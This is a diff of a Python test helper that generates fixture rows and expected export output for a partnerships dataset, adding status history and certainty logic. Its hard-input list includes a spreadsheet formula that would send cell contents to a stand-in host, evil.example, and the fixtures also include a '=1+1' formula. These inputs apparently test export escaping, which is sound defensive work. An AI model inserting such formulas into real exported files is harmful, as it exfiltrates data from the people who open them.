@@ -9,7 +9,8 @@ from itertools import count
 from partnerships.actions.publish import publish
 from partnerships.dates import Span
 from partnerships.models import Agency, Partnership, ReleaseRow
-from partnerships.models.vocabulary import DateBasis, Kind, LocationPrecision, Program, Status
+from partnerships.models.vocabulary import Certainty, DateBasis, Kind, LocationPrecision, Program, Status
+from partnerships.partnership_rules.in_force import in_force
 
 HARD_NAMES = (
     '=HYPERLINK("https://evil.example/?"&A1,"Click")',
@@ -73,6 +74,10 @@ def add(chance: random.Random, name: str) -> Partnership:
 def values(chance: random.Random, agency: Agency) -> dict:
     """Every column of a flat record but the program."""
     start, end = span(chance), chance.choice([None, None, span(chance)])
+    announced, status = chance.choice([None, span(chance)]), chance.choice(Status.values)
+    shown_until = chance.choice([None, day(chance)])
+    disputed = status == Status.DENIED
+    days = in_force(start=start, end=end, attested_until=shown_until, disputed=disputed, ended_by=None)
     placed = chance.random() < 0.8
     return {
         "agency_name": agency.name,
@@ -82,7 +87,15 @@ def values(chance: random.Random, agency: Agency) -> dict:
         "county": chance.choice(["", "San Diego County", "Lake County"]),
         "county_fips": chance.choice(["", "06073", "01001"]),
         "state": agency.state,
-        "status": chance.choice(Status.values),
+        "status": status,
+        "statuses": [chance.choice(Status.values), status],
+        "status_days": [day(chance)],
+        "possible": days.possible,
+        "certain": days.certain,
+        "attested_until": shown_until,
+        "announced": announced.to_range() if announced else None,
+        "announced_precision": announced.precision if announced else "",
+        "overridden": chance.choice([[], [], ["status"], ["city", "start_date"]]),
         "start": start.to_range() if start else None,
         "start_precision": start.precision if start else "",
         "end": end.to_range() if end else None,
@@ -96,8 +109,8 @@ def values(chance: random.Random, agency: Agency) -> dict:
         "sources": chance.choice([["announcements"], ["announcements", "eff-atlas"], ["eff-atlas"]]),
         "source_urls": chance.sample(URLS, chance.randrange(3)),
         "conflicts": chance.choice([[], [], ["Start dates differ: 2019; 2020."], ["=1+1", LONG]]),
-        "listing_ids": [],
-        "first_listed_on": day(chance),
+        "listing_ids": chance.sample(range(1, 99), chance.randrange(4)),
+        "first_listed_on": chance.choice([None, day(chance)]),
         "last_listed_on": chance.choice([None, day(chance)]),
     }
 
@@ -136,10 +149,11 @@ def fill(seed: int = 5) -> None:
     assert publish(actor="tests", why="A first edit")
 
 
-def expected(row: ReleaseRow, version: int) -> dict:
+def expected(row: ReleaseRow, version: int, as_of: date | None = None) -> dict:
     """What a file must say of a row, worked out without the columns' own expressions."""
     start = Span.from_range(row.start, row.start_precision) if row.start else None
     end = Span.from_range(row.end, row.end_precision) if row.end else None
+    announced = Span.from_range(row.announced, row.announced_precision) if row.announced else None
     said = {
         "partnership_id": row.public_id,
         "agency": row.agency_name,
@@ -150,7 +164,7 @@ def expected(row: ReleaseRow, version: int) -> dict:
         "county_fips": row.county_fips,
         "state": row.state,
         "program": row.program,
-        "status": row.status,
+        "status": status_on(row, as_of) if as_of else row.status,
         **dates("start", start),
         **dates("end", end),
         "date_basis": row.date_basis,
@@ -159,14 +173,40 @@ def expected(row: ReleaseRow, version: int) -> dict:
         "location_precision": row.location_precision,
         "sources": row.sources,
         "source_count": len(row.sources),
+        "evidence_count": len(row.listing_ids),
         "source_urls": row.source_urls,
         "conflicts": row.conflicts,
-        "first_listed_on": row.first_listed_on.isoformat(),
-        "last_listed_on": row.last_listed_on.isoformat() if row.last_listed_on else None,
+        "announced_on": announced.iso if announced else "",
+        "attested_until": iso(row.attested_until),
+        "certainty": certainty_on(row, start, end, as_of) if as_of else "",
+        "overridden": row.overridden,
+        "first_listed_on": iso(row.first_listed_on),
+        "last_listed_on": iso(row.last_listed_on),
         "changed_on": row.changed_on.isoformat(),
         "dataset_version": version,
+        "record_url": f"http://testserver/partnerships/{row.public_id}/",
     }
     return {name: None if value == "" else value for name, value in said.items()}
+
+
+def status_on(row: ReleaseRow, day: date) -> str:
+    return [
+        row.statuses[0],
+        *(s for d, s in zip(row.status_days, row.statuses[1:], strict=True) if d <= day),
+    ][-1]
+
+
+def certainty_on(row: ReleaseRow, start: Span | None, end: Span | None, day: date) -> str:
+    """By the definition, for a row that may have been in force on the day."""
+    begun = start and start.last <= day
+    shown = row.attested_until and row.attested_until >= day
+    may_have_ended = end and (end.first is None or end.first <= day)
+    is_certain = begun and shown and not may_have_ended and row.status != Status.DENIED
+    return Certainty.CERTAIN if is_certain else Certainty.POSSIBLE
+
+
+def iso(day: date | None) -> str | None:
+    return day.isoformat() if day else None
 
 
 def dates(name: str, span: Span | None) -> dict:
